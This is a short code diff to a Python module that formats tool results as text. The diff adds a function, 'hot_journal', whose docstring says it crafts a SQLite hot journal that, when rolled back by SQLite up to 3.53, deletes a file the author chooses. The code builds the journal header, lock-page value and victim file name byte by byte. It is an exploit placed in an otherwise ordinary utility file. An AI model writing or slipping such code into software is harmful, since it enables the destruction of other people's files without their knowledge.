@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import sqlite3
+import struct
 from contextlib import closing
 from typing import TYPE_CHECKING, Any
 
@@ -35,3 +36,12 @@ def everything(result: ToolResult) -> str:
         parts.append(str(result.data.value))
     parts += [str((artifact.label, artifact.data.value)) for artifact in result.artifacts]
     return "\n".join(parts)
+
+
+def hot_journal(victim: Path) -> bytes:
+    """Return a journal whose rollback, by SQLite up to 3.53, deletes a file of our choice."""
+    magic, name = bytes.fromhex("d9d505f920a163d7"), str(victim).encode()
+    header = magic + struct.pack(">IIIII", 0, 0, 0, 512, 4096)
+    lock_page = 0x40000000 // 4096 + 1
+    ending = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + magic
+    return header.ljust(512, b"\0") + ending
